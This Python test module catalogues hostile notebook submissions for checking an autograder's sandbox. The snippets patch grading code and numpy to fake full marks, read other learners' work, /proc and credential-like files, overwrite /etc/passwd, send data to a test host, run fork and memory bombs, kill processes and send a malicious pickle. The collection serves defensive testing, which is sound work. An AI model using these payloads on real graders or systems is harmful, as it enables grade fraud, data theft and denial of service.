"""Every attack as a submission of the short lesson, and the marks that its honest work earns.

In most of them `dz` is wrong or unfinished and the attack tries to be paid for it, while the other answers are right.
``@PLACE@`` stands for a folder of the machine with a gradebook and other people's work, ``@PORT@`` for a server on it.
"""

from __future__ import annotations

import copy
import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import judged_lesson as lesson

WRONG = "def dz(a, y):\n    return y - a"
WITHOUT_DZ = {**lesson.HONEST, "checks-dz": 0.0}
CANARY = "the-contents-of-the-gradebook"


@dataclass(frozen=True)
class Attack:
    """One hostile submission: what it does in words, how it is made, and the marks it must get."""

    name: str
    title: str
    make: Callable[[], dict | str | bytes]
    marks: dict = field(default_factory=lambda: WITHOUT_DZ)

    def data(self, place: Path, port: int) -> bytes:
        """The notebook's bytes, for this machine."""
        made = self.make()
        made = made if isinstance(made, str | bytes) else json.dumps(made)
        made = made if isinstance(made, bytes) else made.encode()
        return made.replace(b"@PLACE@", os.fsencode(place)).replace(b"@PORT@", str(port).encode())


ATTACKS: list[Attack] = []


def attack(title: str, marks: dict | None = None):
    """Register a function that makes a notebook; its name names the attack."""

    def register(make: Callable) -> Callable:
        ATTACKS.append(Attack(make.__name__, title, make, WITHOUT_DZ if marks is None else marks))
        return make

    return register


def code(name: str, title: str, dz: str, marks: dict | None = None) -> None:
    """Register an attack that is nothing but the text of the cell for `dz`."""
    ATTACKS.append(Attack(name, title, lambda: lesson.submission(solution_dz=dz), marks or WITHOUT_DZ))


# Metadata and shape of the notebook


@attack("`skip-execution` tag on the test cells")
def skip_execution() -> dict:
    notebook = lesson.submission(solution_dz=WRONG)
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception"]
    return notebook


@attack("points of a test cell raised")
def more_points() -> dict:
    notebook = lesson.submission(solution_dz=WRONG)
    for name in ("checks-dz", "checks-dw"):
        lesson.find(notebook, name)["metadata"]["nbgrader"]["points"] = 1000
    return notebook


@attack("test cell rewritten to show its maximum")
def rewritten_test() -> dict:
    notebook = lesson.submission(solution_dz=WRONG)
    lesson.find(notebook, "checks-dz")["source"] = "2.0"
    return notebook


@attack("test cell duplicated", lesson.HONEST)
def duplicated_test() -> dict:
    notebook = lesson.submission()
    notebook["cells"].append(copy.deepcopy(lesson.find(notebook, "checks-dz")))
    return notebook


@attack("test cell duplicated as an answer cell that shows its maximum")
def counterfeit_test() -> dict:
    notebook = lesson.submission(solution_dz=WRONG)
    cell = lesson.code("2.0", "checks-dz", grade=True, solution=True, points=2)
    notebook["cells"].insert(1, {**cell, "id": "counterfeit"})
    return notebook


@attack("test cells deleted")
def deleted_tests() -> dict:
    notebook = lesson.submission(solution_dz=WRONG)
    notebook["cells"] = [cell for cell in notebook["cells"] if not lesson.marks(cell).get("grade")]
    return {
        **notebook,
        "cells": [*notebook["cells"], lesson.text(lesson.WHY, "explain-why", grade=True, solution=True)],
    }


@attack("imports cell deleted", lesson.HONEST)
def deleted_imports() -> dict:
    notebook = lesson.submission()
    notebook["cells"] = [cell for cell in notebook["cells"] if lesson.marks(cell).get("grade_id") != "imports"]
    return notebook


@attack("test cell turned into text")
def retyped_test() -> dict:
    notebook = lesson.submission(solution_dz=WRONG)
    cell = lesson.find(notebook, "checks-dz")
    cell["cell_type"] = "markdown"
    del cell["outputs"], cell["execution_count"]
    return notebook


@attack("all of nbgrader's metadata stripped", lesson.HONEST)
def stripped() -> dict:
    notebook = lesson.submission()
    for cell in notebook["cells"]:
        cell["metadata"] = {}
    return notebook


@attack("cells in reverse order", lesson.HONEST)
def reversed_cells() -> dict:
    notebook = lesson.submission()
    notebook["cells"].reverse()
    return notebook


NOTHING = dict.fromkeys(lesson.POINTS, 0.0)


@attack("not JSON", NOTHING)
def not_json() -> str:
    return "full marks, please"


@attack("JSON nested a hundred thousand deep", NOTHING)
def deep_json() -> str:
    return "[" * 100_000


@attack("a notebook without cells", NOTHING)
def no_cells() -> dict:
    return {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}


@attack("fields of wrong types everywhere", NOTHING)
def wrong_types() -> dict:
    cells = [None, 3, {"cell_type": [], "source": {"a": 1}, "metadata": 7}, {"source": ["x", 3], "id": "\ud800"}]
    return {"cells": cells, "metadata": [], "nbformat": "four"}


# Patching what marks


code(
    "patched_numpy",
    "numpy's comparisons and constructors replaced",
    f"""
import numpy
for name in ("allclose", "array_equal", "isclose", "all", "any"):
    setattr(numpy, name, lambda *a, **k: True)
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.linalg.norm = lambda *a, **k: 0.0
{WRONG}""",
)
code(
    "patched_builtins",
    "builtins replaced",
    f"""
import builtins
builtins.abs = lambda x: 0
builtins.all = lambda x: True
builtins.sum = lambda *a: 2
builtins.AssertionError = type("Quiet", (Exception,), {{}})
{WRONG}""",
)
code(
    "patched_check",
    "`check`, its modules and its Report replaced",
    f"""
import course, course.checking, course.report, course.subject
check = course.checking.check = lambda *a, **k: k.get("points", 1.0)
course.checking.examine = check
course.report.Report.__repr__ = lambda self: repr(float(self.points))
course.report.Line.__init__ = lambda self, name, *a, **k: object.__setattr__(self, "verdict", "right")
{WRONG}""",
)
code(
    "ipython_hooks",
    "IPython's events, transformers and display hook replaced",
    f"""
import ast, sys
ip = get_ipython()
class Full(ast.NodeTransformer):
    def visit_Call(self, node):
        points = [word.value for word in node.keywords if word.arg == "points"]
        return points[0] if getattr(node.func, "id", "") == "check" and points else node
ip.ast_transformers.append(Full())
ip.events.register("pre_run_cell", lambda info: ip.user_ns.update(check=lambda *a, points=1.0, **k: points))
{WRONG}""",
)
code(
    "display_hook",
    "display hook and formatter that turn every result into full marks",
    f"""
def shown(value, *a, **k):
    return {{"text/plain": repr(float(getattr(value, "points", 2.0)))}}, {{}}
get_ipython().display_formatter.format = shown
{WRONG}""",
)
code(
    "patched_subject",
    "the sandbox's own answering code replaced",
    """
import course.subject, numpy as np
course.subject.LocalSubject.call = lambda self, arguments, overrides=None: course.subject.Answer(
    value=[np.full((1, 1), v) for v in (0.0, 1.0)])
def dz(a, y): return None""",
    {**lesson.HONEST, "checks-dz": 0.0, "checks-dw": 0.0, "checks-shape": 0.0},
)

# Lying values


code(
    "equal_to_all",
    "an object that is equal to everything",
    """
class Equal:
    __eq__ = __le__ = __lt__ = __ge__ = lambda self, other: True
    __hash__ = None
    def __abs__(self): return 0
    def __sub__(self, other): return 0
    __rsub__ = __sub__
    shape, dtype, ndim, size = (1, 1), float, 2, 1
    def __array__(self, *a, **k): return self
def dz(a, y): return Equal()""",
)
code(
    "lying_subclass",
    "an ndarray subclass that hides its difference",
    """
import numpy as np
class Lie(np.ndarray):
    def __array_ufunc__(self, *a, **k): return np.zeros((1, 1))
    def __array_function__(self, *a, **k): return True
    def __sub__(self, other): return np.zeros((1, 1))
    __rsub__ = __sub__
    __eq__ = lambda self, other: np.array(True)
def dz(a, y): return (y - a).view(Lie)""",
)
for name, value, title in (
    ("nan", "np.full(a.shape, np.nan)", "NaN for an answer"),
    ("infinity", "np.inf", "infinity for an answer"),
    ("huge_number", "10 ** 5000", "a whole number of 5,000 digits"),
    ("objects", "np.array([object()] * 3)", "an array of objects"),
    ("huge_array", "np.zeros((10 ** 5, 10 ** 5), dtype=np.int8)[::-1]", "an array of ten thousand million entries"),
    (
        "endless_view",
        "np.lib.stride_tricks.as_strided(a, (10 ** 9,), (0,))",
        "a view with a thousand million entries in 8 bytes",
    ),
    ("many_items", "{'dz': {str(i): list(range(5000)) for i in range(5000)}}", "25 million items"),
    ("deep_lists", "(lambda f: f(f, 300))(lambda f, n: [f(f, n - 1)] if n else a)", "lists nested 300 deep"),
    ("text", "'2.0'", "the maximum as text"),
    ("raw_bytes", "np.zeros(a.shape, dtype='V8')", "raw bytes for an answer"),
    ("bare_number", "2.0", "the maximum as a number"),
):
    code(f"returns_{name}", title, f"import numpy as np\ndef dz(a, y): return {value}")

# Looking for the answer


code(
    "frames",
    "expected values sought in the frames above and among all objects",
    """
import gc, sys
import numpy as np
def dz(a, y):
    frame, found = sys._getframe(), []
    while frame:
        found += [v for k, v in {**frame.f_globals, **frame.f_locals}.items() if "expect" in str(k) or k == "reference"]
        frame = frame.f_back
    found += [o for o in gc.get_objects() if isinstance(o, np.ndarray) and o.shape == a.shape and o is not a]
    found = [v for v in found if np.shape(v) == a.shape and v is not y]
    return found[-1] if found else y - a""",
)
code(
    "tracing",
    "settrace and setprofile that read every local variable",
    """
import sys
seen = []
def look(frame, event, argument):
    seen.extend(v for k, v in frame.f_locals.items() if k in ("expected", "want", "reference", "solution"))
    return look
sys.settrace(look); sys.setprofile(look)
def dz(a, y): return seen[-1] if seen else y - a""",
)
code(
    "files",
    "answers sought in files, environment, /proc and history",
    """
import glob, os
found = []
patterns = ("@PLACE@/**/*", "/work/*/source/*", "/home/*/*", "/root/*", "/proc/*/environ", "/proc/*/cmdline",
            "/opt/*/*.ipynb", "/root/.ipython/*/*", "/tmp/**/*", "/etc/*")
for path in [path for pattern in patterns for path in glob.glob(pattern, recursive=True)]:
    try: found.append(open(path, errors="replace").read(500_000))
    except OSError: pass
for text in found:
    for secret in ("contents-of-" + "the-gradebook", "seed=" + "4711", "a secret " + "for tests"):
        print(text[text.find(secret) - 40 :][:80] if secret in text else "", end="")
print([v for v in os.environ.values() if "secret" in v.lower()])
"""
    + WRONG,
)
code(
    "hidden_tests",
    "hidden tests sought in everything this process can see",
    """
import gc, os
print([o for o in gc.get_objects() if isinstance(o, dict) and "BEGIN HIDDEN TESTS" in str(o.get("source", ""))])
for name in os.listdir("/proc/self/fd"):
    path = "/proc/self/fd/" + name
    try: print(open(path, "rb").read1(200) if int(name) > 2 and os.path.isfile(path) else "")
    except Exception: pass
"""
    + WRONG,
)
code(
    "neighbours_work",
    "another learner's submission copied",
    """
import json, pathlib
work = pathlib.Path("@PLACE@/submitted/neighbour/lesson/lesson.ipynb")
try:
    for cell in json.loads(work.read_text())["cells"]:
        if cell["source"].startswith("def dz"): exec(cell["source"])
except OSError as error:
    def dz(a, y): return y - a""",
)
code(
    "runner_memory",
    "the warm process read through /proc and ptrace",
    """
import ctypes, glob, os
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + [str(os.getppid())]:
    for part in ("mem", "environ", "maps", "fd/3", "fd/4"):
        try:
            with open(f"/proc/{pid}/{part}", "r+b") as file: file.write(b"x") if pid != str(os.getpid()) else None
        except OSError: pass
libc = ctypes.CDLL(None)
assert libc.ptrace(16, os.getppid(), 0, 0) == -1
"""
    + WRONG,
)

# Reaching out


code(
    "writes_outside",
    "files written over gradebook, course and system",
    """
import os
for path in ("@PLACE@/gradebook.db", "@PLACE@/new", "/usr/x", "/etc/passwd", "/x", "/dev/x", os.__file__,
             __import__("course").__file__, "/opt/course-package/x"):
    try: open(path, "a").write("x")
    except OSError: pass
"""
    + WRONG,
)
code(
    "network",
    "a connection to a server on the machine, and to the world",
    """
import socket, urllib.request
for host, port in (("127.0.0.1", int("@PORT@")), ("localhost", int("@PORT@")), ("192.0.2.1", 80)):
    try: socket.create_connection((host, port), timeout=0.2).sendall(b"stolen")
    except OSError: pass
try: socket.getaddrinfo("example.org", 80)
except OSError: pass
"""
    + WRONG,
)
code(
    "shadow_modules",
    "modules that shadow numpy and course written beside the notebook",
    """
import os
for folder in (".", "/tmp", os.path.expanduser("~")):
    for name in ("numpy", "course", "IPython", "sitecustomize", "matplotlibrc"):
        try: open(f"{folder}/{name}.py", "w").write("raise SystemExit('shadowed')")
        except OSError: pass
"""
    + WRONG,
)
code(
    "escape_namespaces",
    "new namespaces, mounts and rights asked for",
    """
import ctypes
libc = ctypes.CDLL(None)
for flags in (0x10000000, 0x00020000, 0x40000000, 0x20000000):
    assert libc.unshare(flags) == -1
assert libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, 0) == -1
assert libc.setuid(0) == -1 or True
assert libc.chroot(b"/tmp") == -1
print("contained")
"""
    + WRONG,
)
code(
    "kernel_memory",
    "memory that outlives its process: System V segments, memfd",
    """
import ctypes
libc = ctypes.CDLL(None)
assert libc.shmget(0, 1 << 28, 0o1666) == -1
assert libc.memfd_create(b"x", 0) == -1
assert libc.msgget(0, 0o1666) == -1
print("contained")
"""
    + WRONG,
)

# Using up the machine


code(
    "fork_bomb",
    "fork bomb",
    """
import os
def dz(a, y):
    while True:
        try: os.fork()
        except OSError: pass""",
)
code(
    "thread_bomb",
    "thread bomb",
    """
import threading, time
def dz(a, y):
    while True:
        try: threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
        except RuntimeError: pass""",
)
code(
    "memory_fast",
    "memory bomb, all at once",
    """
def dz(a, y): return bytearray(40_000_000_000)""",
)
code(
    "memory_slow",
    "memory bomb, slowly, in one process",
    """
import time
def dz(a, y):
    kept = []
    while True: kept.append(b"x" * 4_000_000)""",
)
code(
    "memory_shared_out",
    "memory bomb spread over processes, each below the limit of one",
    """
import os, time
for _ in range(8):
    if os.fork() == 0:
        kept = b"x" * 100_000_000
        time.sleep(60)
        os._exit(0)
time.sleep(60)
""",
    {**WITHOUT_DZ},
)
code(
    "disk",
    "scratch filled, nested deeply and made unreadable",
    """
import os
try:
    with open("/tmp/big", "wb") as file:
        while True: file.write(b"x" * 1_000_000)
except OSError: pass
os.remove("/tmp/big") if os.path.exists("/tmp/big") else None
here = os.getcwd()
try:
    os.chdir("/tmp")
    for _ in range(1500): os.mkdir("d"); os.chdir("d")
except OSError: pass
os.chdir(here)
os.makedirs("/tmp/locked/in/side", exist_ok=True)
open("/tmp/locked/in/file", "w").close()
os.chmod("/tmp/locked/in", 0)
"""
    + WRONG,
)
code("endless_loop", "endless loop", "def dz(a, y):\n    while True: pass")
code(
    "deaf_loop",
    "endless loop that swallows interrupts",
    """
def dz(a, y):
    while True:
        try:
            while True: pass
        except BaseException: pass""",
)
code(
    "deaf_signals",
    "interrupts ignored, then sleep",
    """
import signal, time
def dz(a, y):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    time.sleep(600)""",
)
code("endless_lines", "endless output, line by line", "while True: print('line')", WITHOUT_DZ)
code(
    "endless_line", "endless output in one line", "import sys\nwhile True: sys.stdout.write('x' * 100_000)", WITHOUT_DZ
)
code(
    "endless_raw",
    "endless output past Python, from another program",
    "import subprocess\nsubprocess.run(['yes'])",
    WITHOUT_DZ,
)
code(
    "huge_display",
    "a display of 200 MB",
    "from IPython.display import HTML, display\ndisplay(HTML('x' * 200_000_000))\n" + WRONG,
)
code(
    "regex",
    "a computation that holds the interpreter's lock",
    "import re\ndef dz(a, y): re.match('(a+)+$', 'a' * 60 + 'b')",
)

# Ending and outliving


code("exits", "`os._exit(0)` inside the function", "import os\ndef dz(a, y): os._exit(0)")
code("exits_cell", "`os._exit(0)` in a cell", f"{WRONG}\nimport os\nos._exit(0)")
code(
    "sys_exit",
    "`sys.exit`, `exit`, KeyboardInterrupt and a BaseException of one's own",
    """
import sys
class Odd(BaseException): pass
def dz(a, y): raise (SystemExit(0), KeyboardInterrupt(), GeneratorExit(), Odd())[int(a.size + y.size) % 4]
exit()""",
)
code("segfault", "segmentation fault", "import ctypes\ndef dz(a, y): ctypes.string_at(0)")
code(
    "kills_runner",
    "the warm process killed",
    """
import os, signal
def dz(a, y):
    os.kill(os.getppid(), signal.SIGKILL)""",
)
code("kills_all", "every process killed", "import os, signal\ndef dz(a, y): os.kill(-1, signal.SIGKILL)")
code(
    "stops_runner",
    "the warm process stopped",
    """
import os, signal
def dz(a, y):
    os.kill(os.getppid(), signal.SIGSTOP)""",
)
code(
    "late_killer",
    "a process left behind that kills the warm process later",
    """
import os, signal, time
def dz(a, y):
    parent = os.getppid()
    if os.fork() == 0:
        os.setsid(); time.sleep(0.05)
        try: os.kill(parent, signal.SIGKILL)
        except OSError: pass
        os._exit(0)
    return y - a""",
)
code(
    "left_behind",
    "processes left behind, in sessions of their own",
    """
import os, signal, subprocess
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        for number in range(1, 32):
            try: signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError): pass
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", "987"])
        os._exit(0)
"""
    + WRONG,
)

# The protocol

SOCKETS = """
import glob, json, os, socket, struct
def sockets():
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink("/proc/self/fd/" + name).startswith("socket:"): yield int(name)
        except OSError: pass
def send(header, body=b"", sizes=None):
    data = struct.pack(">II", *(sizes or (len(header), len(body)))) + header + body
    for number in sockets():
        try: os.write(number, data)
        except OSError: pass
"""
code(
    "forged_answers",
    "answers sent before they are asked for",
    SOCKETS
    + """
def dz(a, y):
    answer = {"$": "dict", "items": [["id", "0"], ["found", True], ["answer", None]]}
    for _ in range(50): send(json.dumps(answer).encode())
    return y - a""",
)
code(
    "garbage_frames",
    "garbage written to the judge's socket",
    SOCKETS
    + """
def dz(a, y):
    send(b"\\xff" * 1000)
    return y - a""",
)
code(
    "huge_header",
    "a message announced with 4 GB",
    SOCKETS
    + """
def dz(a, y):
    send(b"", sizes=(0xFFFFFFFF, 0xFFFFFFFF))
    return y - a""",
)
code(
    "half_message",
    "a message begun and never finished",
    SOCKETS
    + """
import time
def dz(a, y):
    send(b"{", sizes=(1000, 0))
    time.sleep(60)""",
)
code(
    "pickle",
    "a pickle in place of an answer",
    SOCKETS
    + """
import pickle
class Boom:
    def __reduce__(self): return (open, ("@PLACE@/pwned", "w"))
def dz(a, y):
    send(pickle.dumps(Boom()))
    return Boom()""",
)
code(
    "closes_socket",
    "the judge's socket closed",
    SOCKETS
    + """
def dz(a, y):
    for number in sockets(): os.close(number)""",
)
code(
    "deep_messages",
    "an answer nested beyond what JSON can read",
    SOCKETS
    + """
def dz(a, y):
    send(b"[" * 100_000)
    return y - a""",
)
